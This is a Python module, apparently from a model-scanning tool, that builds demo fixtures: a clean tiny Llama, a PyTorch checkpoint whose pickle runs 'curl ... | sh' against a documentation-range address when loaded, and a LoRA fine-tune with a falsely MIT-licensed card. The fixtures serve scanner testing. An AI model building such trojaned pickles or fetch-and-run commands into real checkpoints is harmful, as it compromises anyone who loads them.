"""Build the demo models: real files in real formats, made by code."""

from __future__ import annotations

import json
import zipfile
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from modelsteward.demo.gguf_model import write_tiny_llama_gguf
from modelsteward.demo.pickles import torch_state_dict_pickle
from modelsteward.errors import UsageError

_TINY_TENSORS: dict[str, tuple[int, ...]] = {
    "model.embed_tokens.weight": (32, 8),
    "model.layers.0.self_attn.q_proj.weight": (8, 8),
    "model.layers.0.mlp.up_proj.weight": (16, 8),
    "model.norm.weight": (8,),
    "lm_head.weight": (32, 8),
}

CHAT_TEMPLATE = (
    "{% for message in messages %}<|{{ message['role'] }}|>\n"
    "{{ message['content'] }}</s>\n{% endfor %}"
    "{% if add_generation_prompt %}<|assistant|>\n{% endif %}"
)

TROJAN_COMMAND = "curl -s http://203.0.113.7/x.sh | sh"
"""The command the trojaned checkpoint would run (a documentation-range address)."""


@dataclass(frozen=True, slots=True)
class DemoWorkspace:
    """Paths of the demo models."""

    root: Path
    clean: Path
    """A clean tiny llama: safetensors, a GGUF llama.cpp can serve, an Apache-2.0 card."""
    trojan: Path
    """A PyTorch checkpoint whose pickle calls ``os.system``."""
    finetune: Path
    """A fine-tune whose card says MIT while its base is Meta Llama 3."""

    @property
    def gguf(self) -> Path:
        """The clean model's GGUF file."""
        return self.clean / "tiny-llama.gguf"

    @property
    def models(self) -> tuple[Path, Path, Path]:
        """All three model directories."""
        return (self.clean, self.trojan, self.finetune)


def _card(front_matter: dict[str, object], body: str) -> str:
    lines = ["---"]
    for key, value in front_matter.items():
        if isinstance(value, list):
            lines.append(f"{key}:")
            lines.extend(f"- {item}" for item in value)
        else:
            lines.append(f"{key}: {value}")
    lines.append("---")
    return "\n".join(lines) + "\n\n" + body + "\n"


def _arrays(seed: int) -> dict[str, np.ndarray]:
    rng = np.random.default_rng(seed)
    return {n: rng.standard_normal(s).astype(np.float32) for n, s in _TINY_TENSORS.items()}


def _write_config(path: Path) -> None:
    config = {
        "architectures": ["LlamaForCausalLM"],
        "model_type": "llama",
        "hidden_size": 8,
        "intermediate_size": 16,
        "num_attention_heads": 2,
        "num_hidden_layers": 1,
        "vocab_size": 32,
        "torch_dtype": "float32",
    }
    (path / "config.json").write_text(json.dumps(config, indent=2), encoding="utf-8")


def build_clean(path: Path) -> None:
    """A clean tiny llama model directory."""
    from safetensors.numpy import save_file

    path.mkdir(parents=True, exist_ok=True)
    arrays = _arrays(0)
    save_file(arrays, str(path / "model.safetensors"), metadata={"format": "pt"})
    _write_config(path)
    tokenizer = {"model_max_length": 256, "chat_template": CHAT_TEMPLATE}
    (path / "tokenizer_config.json").write_text(json.dumps(tokenizer, indent=2), "utf-8")
    card = _card(
        {"license": "apache-2.0", "library_name": "transformers", "tags": ["text-generation"]},
        "# tiny-llama\n\nA tiny Llama-architecture model for demonstrations.",
    )
    (path / "README.md").write_text(card, encoding="utf-8")
    write_tiny_llama_gguf(path / "tiny-llama.gguf", chat_template=CHAT_TEMPLATE)


def build_trojan(path: Path) -> None:
    """A PyTorch zip checkpoint whose pickle runs a shell command when loaded."""
    path.mkdir(parents=True, exist_ok=True)
    arrays = _arrays(1)
    pkl = torch_state_dict_pickle({n: a.shape for n, a in arrays.items()}, trojan=TROJAN_COMMAND)
    with zipfile.ZipFile(path / "pytorch_model.bin", "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", pkl)
        zf.writestr("archive/byteorder", "little")
        for i, array in enumerate(arrays.values()):
            zf.writestr(f"archive/data/{i}", array.tobytes())
        zf.writestr("archive/version", "3\n")
    _write_config(path)
    card = _card(
        {"license": "apache-2.0", "tags": ["text-generation"]},
        "# helpful-llama\n\nA helpful model. Load it with torch.load.",
    )
    (path / "README.md").write_text(card, encoding="utf-8")


def build_finetune(path: Path) -> None:
    """A LoRA fine-tune of Meta Llama 3 whose card claims the MIT license."""
    from safetensors.numpy import save_file

    path.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(2)
    adapter = {
        "base_model.model.layers.0.self_attn.q_proj.lora_A.weight": rng.standard_normal(
            (4, 8)
        ).astype(np.float32),
        "base_model.model.layers.0.self_attn.q_proj.lora_B.weight": np.zeros(
            (8, 4), dtype=np.float32
        ),
    }
    save_file(adapter, str(path / "adapter_model.safetensors"))
    adapter_config = {
        "base_model_name_or_path": "meta-llama/Meta-Llama-3-8B-Instruct",
        "peft_type": "LORA",
        "r": 4,
        "target_modules": ["q_proj"],
    }
    (path / "adapter_config.json").write_text(json.dumps(adapter_config, indent=2), "utf-8")
    card = _card(
        {
            "license": "mit",
            "base_model": "meta-llama/Meta-Llama-3-8B-Instruct",
            "tags": ["peft", "lora"],
        },
        "# support-bot-lora\n\nA customer-support fine-tune. Free to use under MIT!",
    )
    (path / "README.md").write_text(card, encoding="utf-8")


def build_workspace(root: Path) -> DemoWorkspace:
    """Build (or rebuild) the three demo models under ``root``.

    Raises:
        UsageError: when the optional packages the demo needs are missing.
    """
    try:
        import safetensors  # noqa: F401
    except ImportError as exc:
        raise UsageError(
            "the demo needs the optional scanning packages",
            hint="install with: pip install 'modelsteward[all]'",
        ) from exc
    ws = DemoWorkspace(
        root=root,
        clean=root / "models" / "tiny-llama",
        trojan=root / "models" / "helpful-llama-trojan",
        finetune=root / "models" / "support-bot-lora",
    )
    build_clean(ws.clean)
    build_trojan(ws.trojan)
    build_finetune(ws.finetune)
    return ws
